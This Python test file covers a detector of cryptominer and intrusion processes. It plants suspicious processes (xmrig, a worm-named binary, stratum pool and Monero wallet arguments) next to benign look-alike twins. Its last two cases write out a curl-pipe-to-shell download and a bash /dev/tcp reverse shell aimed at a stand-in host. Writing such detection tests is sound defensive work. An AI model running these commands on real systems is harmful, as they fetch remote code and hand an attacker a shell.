"""Names and arguments: what a miner calls itself and is told on its command line."""

from __future__ import annotations

from tests.lab.case import case
from tests.lab.room import Planted, Room
from tests.lab.wallets import XMR, misspelt


@case(1, miner_process_likely="pid")
def miner_name(room: Room) -> Planted:
    """xmrig under its own name."""
    return {"pid": room.run("/opt/xmrig/xmrig")}


@miner_name.twin
def _(room: Room) -> Planted:
    """an editor open on xmrig's source."""
    return {"pid": room.run("/usr/bin/vim.basic", "/srv/src/xmrig/src/xmrig.cpp")}


@case(1, miner_process_likely="pid")
def miner_name_mutated(room: Room) -> Planted:
    """a miner whose name has grown a suffix."""
    return {"pid": room.run("/opt/run/xmrig-notls64")}


@miner_name_mutated.twin
def _(room: Room) -> Planted:
    """the metrics exporter of a miner that runs elsewhere."""
    return {"pid": room.run("/opt/monitoring/xmrig_exporter", "--web.listen-address=:9100")}


@case(1, miner_process_likely="pid")
def miner_name_in_argv(room: Room) -> Planted:
    """a program named worker, started as ./xmrig."""
    return {"pid": room.start("./xmrig", executable=room.program("/opt/run/worker"))}


@miner_name_in_argv.twin
def _(room: Room) -> Planted:
    """kubectl reading the log of a pod named xmrig."""
    return {"pid": room.run("/usr/local/bin/kubectl", "logs", "-f", "xmrig-7d9c6b7b8-x2x4q")}


@case(1, miner_process_likely="pid")
def worm_name(room: Room) -> Planted:
    """a worm's miner, named after a kernel thread that is none."""
    return {"pid": room.run("/var/lib/kdevtmpfsi")}


@worm_name.twin
def _(room: Room) -> Planted:
    """grep for the worm's name in a log."""
    return {"pid": room.start("grep", "-c", "kdevtmpfsi", "-")}


@case(1, miner_process="pid")
def miner_options(room: Room) -> Planted:
    """options that only miners have."""
    return {"pid": room.run("/opt/run/worker", "--donate-level=1", "--cpu-max-threads-hint=75")}


@miner_options.twin
def _(room: Room) -> Planted:
    """grep for a miner's option."""
    return {"pid": room.start("grep", "-r", "-e", "--donate-level", "-")}


@case(1, miner_process="pid")
def stratum_url(room: Room) -> Planted:
    """a stratum URL as an argument."""
    return {"pid": room.run("/opt/run/worker", "-o", "stratum+tcp://pool.example.org:3333", "-u", "w")}


@stratum_url.twin
def _(room: Room) -> Planted:
    """git searching its history for a stratum URL."""
    return {"pid": room.run("/usr/bin/git", "log", "-S", "stratum+tcp://pool.example.org:3333")}


@case(1, miner_process="pid")
def wallet_and_pool(room: Room) -> Planted:
    """a Monero address beside a pool, and nothing else."""
    return {"pid": room.run("/opt/run/worker", "198.51.100.7:3333", XMR)}


@wallet_and_pool.twin
def _(room: Room) -> Planted:
    """a web server told an upstream and a token that has the form of an address."""
    return {"pid": room.run("/opt/shop/server", "--token", misspelt(XMR), "--upstream", "198.51.100.20:8080")}


@case(1, miner_process="pid")
def algorithm_and_pool(room: Room) -> Planted:
    """an algorithm, a pool and a user."""
    return {"pid": room.run("/opt/run/worker", "-a", "rx/0", "-o", "pool.example.org:3333", "-u", "user")}


@algorithm_and_pool.twin
def _(room: Room) -> Planted:
    """a backup tool whose options have the same letters."""
    return {"pid": room.run("/usr/bin/backup", "-a", "sha256", "-o", "backup.example.org:22", "-u", "backup")}


@case(1, service_account_shell="pid")
def service_account_download(room: Room) -> Planted:
    """www-data piping a download into a shell."""
    script = "read hold; curl -fsSL http://203.0.113.9/x.sh | sh"
    return {"pid": room.start("sh", "-c", script, user=33, group=33, extra_groups=[])}


@service_account_download.twin
def _(room: Room) -> Planted:
    """www-data running a web application's own timer."""
    script = "read hold; curl -fsS http://localhost/cron.php >/dev/null"
    return {"pid": room.start("sh", "-c", script, user=33, group=33, extra_groups=[])}


@case(1, needs=("bash",), service_account_shell="pid")
def service_account_reverse_shell(room: Room) -> Planted:
    """the database's account opening a socket from the shell."""
    script = "read hold; bash -i >& /dev/tcp/203.0.113.9/443 0>&1"
    return {"pid": room.start("bash", "-c", script, user=101, group=101, extra_groups=[])}


@service_account_reverse_shell.twin
def _(room: Room) -> Planted:
    """the database's account waiting for its own port."""
    script = "read hold; until echo > /dev/tcp/127.0.0.1/5432; do sleep 1; done"
    return {"pid": room.start("bash", "-c", script, user=101, group=101, extra_groups=[])}
